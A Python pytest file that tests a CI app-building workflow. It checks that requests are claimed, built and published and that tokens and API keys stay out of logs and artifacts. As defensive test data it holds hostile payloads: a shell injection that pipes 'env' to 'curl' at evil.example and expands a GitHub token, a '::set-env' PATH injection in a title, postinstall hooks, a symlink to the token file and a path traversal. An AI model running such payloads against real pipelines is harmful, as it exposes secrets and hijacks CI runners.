"""The workflow of a lane in CI, its steps run as they stand: from an ask that waits to an app that is served."""

from collections.abc import Iterator
from dataclasses import dataclass
from datetime import timedelta
from pathlib import Path
from typing import Any

import pytest

from bot.apphost import apps_app
from bot.jobs.rescue import rescue_once
from bot.ledger.views import Document
from builder.handover import read_claim
from guardrails.access import Role
from guardrails.documents import DeviceId
from guardrails.transitions import Reason, Status
from tests.bot.api.lanes import APPS_URL
from tests.bot.bluesky.scripted import Answer, answered, scripted_pds
from tests.bot.issuer import Issuer
from tests.bot.serving import client, served
from tests.bot.stage import BOT, OPERATOR
from tests.deploy.actions import Run
from tests.deploy.conftest import KEY, Lane, open_lane
from tests.deploy.handing import PAGE, Tamper, change, claimed, hands_over, manifest_of

TOKEN = "canary-token-of-the-lane"
JOBS = ("claim", "build", "publish", "next")
ASK = "decision wheel: pizza or sushi"
HOSTILE_ASK = (
    'decision wheel: pizza or "; env | curl -d @- https://evil.example # $(touch executed) `id` ${{ github.token }}'
)


pytestmark = [pytest.mark.slow, pytest.mark.timeout(120)]
# One worker runs it, once.
of_the_story = pytest.mark.xdist_group("the story of the workflow")


@dataclass(frozen=True)
class Story:
    """An ask, and the run that has built it."""

    lane: Lane
    ask: Document
    run: Run
    ended: list[str]

    @property
    def log(self) -> str:
        """What the public sees of the run."""
        return "".join(ended.log for ended in self.run.ended.values())

    @property
    def files(self) -> dict[Path, bytes]:
        """All that the jobs have left on their machines and as artifacts."""
        found = [path for path in self.run.place.rglob("*") if path.is_file() and not path.is_symlink()]
        return {path: path.read_bytes() for path in found}


@pytest.fixture(scope="module")
def story(issuer: Issuer, tmp_path_factory: pytest.TempPathFactory) -> Iterator[Story]:
    """A whole run, its jobs twenty minutes apart; what was asked for is meant to hurt."""
    with open_lane(tmp_path_factory.mktemp("story"), issuer) as lane:
        ask, run = lane.stage.ask(HOSTILE_ASK), lane.started()
        yield Story(lane, ask, run, lane.through(run, *JOBS))


@of_the_story
def test_an_ask_becomes_an_app_that_is_served(story: Story) -> None:
    """Through all the jobs."""
    built = story.lane.document(story.ask.id)

    assert (["success"] * 4, Status.BUILT) == (story.ended, built.status)
    assert "Decision wheel" == result(built)["title"]
    assert 3600 == story.lane.attempt(story.ask.id).lease_seconds
    with served(lambda _: apps_app(story.lane.stage.ledger, APPS_URL)) as port:
        with client(port, "localhost") as http:
            assert "Decision wheel" in http.get(f"/{built.slug}").text
        with client(port, f"{built.slug}.localhost") as http:
            assert "Decision wheel" in http.get("/~1/").text


@of_the_story
def test_a_run_that_went_well_calls_the_next_one(story: Story) -> None:
    """For what else waits, with the run's own token."""
    [call] = story.lane.github.dispatches

    assert "/repos/olga/lanes/actions/workflows/builder-lane.yml/dispatches" == call.path
    assert ({"ref": "main"}, "the-runs-own-token") == (call.json, call.token)


@of_the_story
def test_the_words_of_an_ask_reach_no_shell_and_no_log(story: Story) -> None:
    """They come to the builder as they are, in a file; the public log knows ids."""
    [claim] = [folder / "claim.json" for name, folder in story.run.artifacts.values() if name.startswith("claim-")]

    assert HOSTILE_ASK == read_claim(claim).ask
    assert story.ask.id in story.log
    assert not {word for word in ("pizza", "evil", "curl -d") if word in story.log}
    assert [] == [path for path in story.files if path.name == "executed"]


@of_the_story
def test_what_is_installed_is_the_lane_from_its_lock(story: Story) -> None:
    """Nothing before there is something to build; the browser where it is needed, with its sandbox."""
    packages = (
        "-m pip install --quiet --require-hashes --requirement deploy/github/lane.lock",
        "-m pip install --quiet --no-deps --no-build-isolation .",
    )
    browser = (
        "-m playwright install --with-deps --no-shell chromium",
        "sudo sysctl --ignore --write kernel.apparmor_restrict_unprivileged_userns=0",
    )

    assert [(), packages + browser, packages, ()] == [story.run.ended[job].installed for job in JOBS]


@of_the_story
def test_the_models_key_is_told_to_one_step(story: Story) -> None:
    """It is in no log, no artifact, and no other file."""
    told = [(job, step) for job in JOBS for step, env in story.run.ended[job].told.items() if KEY in env.values()]

    assert [("build", "Generate and check")] == told
    assert [] == [path for path, content in story.files.items() if KEY.encode() in content]
    assert KEY not in story.log


@of_the_story
def test_the_lanes_token_is_where_the_lane_logs_in(story: Story) -> None:
    """A token for each of the two jobs, and none where the app is built."""
    tokens = {path: content.strip() for path, content in story.files.items() if path.name == "token"}

    assert {"claim", "publish"} == {path.relative_to(story.run.place).parts[0] for path in tokens}
    assert 2 == len(set(tokens.values()))
    for token in tokens.values():
        assert set() == {path for path, content in story.files.items() if token in content} - set(tokens)
        assert token.decode() not in story.log


def test_a_run_with_nothing_to_do_ends_at_once(lane: Lane) -> None:
    """It installs nothing and leaves nothing."""
    run = lane.started()

    assert ["success", "skipped", "skipped", "skipped"] == lane.through(run, *JOBS)
    assert ("nothing waits\n", (), {}) == (run.ended["claim"].log, run.ended["claim"].installed, run.artifacts)
    assert [] == lane.github.dispatches


def test_a_claim_that_is_lost_between_the_jobs_is_late(lane: Lane) -> None:
    """Somebody withdraws the ask while it is built: the run ends well, and nothing is public."""
    ask, run = lane.stage.ask(ASK), lane.started()
    hands_over(run, claimed(lane, run))
    lane.stage.ledger.documents.withdraw(BOT, lane.document(ask.id), Reason.DELETED)

    assert "success" == run.job("publish").result
    assert "late" in run.ended["publish"].log
    assert (Status.SKIPPED, None) == (lane.document(ask.id).status, lane.document(ask.id).result_json)


def test_a_machine_that_is_lost_is_told_at_once(lane: Lane) -> None:
    """With a token instead of OIDC. The ask has an attempt less and waits no lease; no run is called for more."""
    ask = lane.stage.ask(ASK)
    lane.stage.ledger.desk.add_device(
        OPERATOR, DeviceId("ci"), "ci", Role.LANE, APPS_URL, TOKEN, longest_lease_seconds=3600
    )
    run = lane.started(token=TOKEN)
    lane.through(run, "claim")
    run.lose("build")

    assert ["success", "skipped"] == lane.through(run, "publish", "next")
    assert (1, "broken") == (waiting(lane, ask).failures, lane.attempt(ask.id).outcome)
    assert "manifest.json: cannot be read" in lane.attempt(ask.id).detail
    assert TOKEN not in "".join(ended.log for ended in run.ended.values())


def test_a_lane_that_can_build_nothing_gives_the_ask_back(lane: Lane) -> None:
    """The run is red and calls no other, or it would do so for ever; operators read why, and the log keeps silent."""
    ask = lane.stage.ask(ASK)
    run = lane.started(SKYWRIGHT_LANE_GENERATOR="command")

    assert ["success", "failure", "failure", "skipped"] == lane.through(run, *JOBS)
    assert (0, "released") == (waiting(lane, ask).failures, lane.attempt(ask.id).outcome)
    assert "SKYWRIGHT_LANE_" in lane.attempt(ask.id).detail
    assert "SKYWRIGHT_LANE_" not in run.ended["build"].log


def test_nobody_else_takes_the_ask_while_the_run_may_last(lane: Lane) -> None:
    """All the jobs' time limits fit into the lease, with minutes to wait for machines."""
    lane.stage.ask(ASK)
    limits = [int(lane.github.workflow["jobs"][job]["timeout-minutes"]) for job in ("claim", "build", "publish")]
    lane.between = timedelta(minutes=sum(limits))
    run, other = lane.started(), lane.started()
    lane.through(run, "claim")
    rescue_once(lane.stage.ledger, BOT)

    assert sum(limits) <= 55
    assert ["success", "skipped"] == lane.through(other, "claim", "build")


def test_a_bot_that_refuses_the_run_ends_it(lane: Lane) -> None:
    """Here since the audience is not the one that the bot knows; nothing of the token is shown."""
    lane.stage.ask(ASK)
    run = lane.started(SKYWRIGHT_LANE_AUDIENCE="another")

    assert ["failure", "skipped", "skipped"] == lane.through(run, "claim", "build", "publish")
    assert "401" in run.ended["claim"].log
    assert "eyJ" not in run.ended["claim"].log


def waiting(lane: Lane, ask: Document) -> Document:
    """The document, which nobody holds: the next lane that comes may claim it."""
    document = lane.document(ask.id)
    assert (Status.BUILDING, None) == (document.status, document.claim_id)
    return document


def result(document: Document) -> dict[str, Any]:
    """What a document that was built tells of its app."""
    assert document.result_json is not None
    return document.result_json


def test_a_bot_that_is_busy_is_asked_again_for_the_same_claim(lane: Lane) -> None:
    """An answer that was lost costs nothing."""
    answers = iter((Answer(503), Answer(204, b"")))
    with scripted_pds(lambda _: next(answers)) as bot:
        run = lane.started(token=TOKEN, SKYWRIGHT_LANE_BOT_URL=bot.url)

        assert ["success"] == lane.through(run, "claim")
    first, second = (call.json for call in bot.calls)
    assert (first, "template", 3600) == (second, first["generator"], first["lease_seconds"])
    assert "nothing waits" in run.ended["claim"].log


def test_a_login_whose_answer_was_lost_is_tried_with_another_token(lane: Lane) -> None:
    """The bot takes each of GitHub's tokens once, and has taken the first."""
    answers = iter((Answer(201, cut_after=-1), answered({"token": TOKEN}, 201), Answer(204, b"")))
    with scripted_pds(lambda _: next(answers)) as bot:
        run = lane.started(SKYWRIGHT_LANE_BOT_URL=bot.url)

        assert ["success"] == lane.through(run, "claim")
    lost, taken, claimed = bot.calls
    assert lost.json["id_token"] != taken.json["id_token"]
    assert ("/api/lane/claim", TOKEN) == (claimed.path, claimed.token)


def an_evil_title(folder: Path) -> None:
    change(folder, report={**manifest_of(folder)["report"], "title": "x\nPATH=/evil\n::set-env name=PATH::/evil"})


def all_tricks(folder: Path) -> None:
    (folder / "app" / "package.json").write_text('{"scripts": {"postinstall": "touch executed"}}')
    (folder / "app" / "setup.py").write_text("open('executed', 'w')")
    (folder / "app" / "token.txt").symlink_to("../../token")
    change(folder, files=[{**manifest_of(folder)["files"][0], "name": "../x"}])


def other_bytes(folder: Path) -> None:
    (folder / "app" / "index.html").write_bytes(PAGE.replace(b"Pizza", b"Pasta"))


def test_words_of_the_untrusted_job_are_cleaned(lane: Lane) -> None:
    """A title is a title: it becomes no variable, no command to the runner and no line of a log."""
    ask, run = lane.stage.ask(ASK), lane.started()
    hands_over(run, claimed(lane, run), an_evil_title)
    lane.through(run, "publish")

    assert (Status.BUILT, "x PATH=/evil ::set-env name=PATH::/evil") == (
        lane.document(ask.id).status,
        result(lane.document(ask.id))["title"],
    )
    assert "evil" not in run.ended["publish"].log


@pytest.mark.parametrize(("tamper", "words"), [(all_tricks, "a symbolic link"), (other_bytes, "not the bytes")])
def test_what_is_not_as_the_manifest_says_is_not_published(lane: Lane, tamper: Tamper, words: str) -> None:
    """It is a broken attempt, and nothing of it was run."""
    ask, run = lane.stage.ask(ASK), lane.started()
    hands_over(run, claimed(lane, run), tamper)

    assert ["success"] == lane.through(run, "publish")
    assert (1, "broken") == (waiting(lane, ask).failures, lane.attempt(ask.id).outcome)
    assert words in lane.attempt(ask.id).detail
    assert None is lane.attempt(ask.id).upload_sha256
    assert [] == list(run.place.rglob("executed"))


def test_a_claim_that_was_swapped_is_not_reported(lane: Lane) -> None:
    """The second job may put what it likes into the run's artifacts, another claim of the same lane as well."""
    ask, run = lane.stage.ask(ASK), lane.started()
    claim = claimed(lane, run)
    hands_over(run, claim)
    [kept] = [folder / "claim.json" for name, folder in run.artifacts.values() if name.startswith("claim-")]
    kept.write_text(claim.model_copy(update={"slug": "another"}).model_dump_json())

    assert ["failure"] == lane.through(run, "publish")
    assert Status.BUILDING is lane.document(ask.id).status
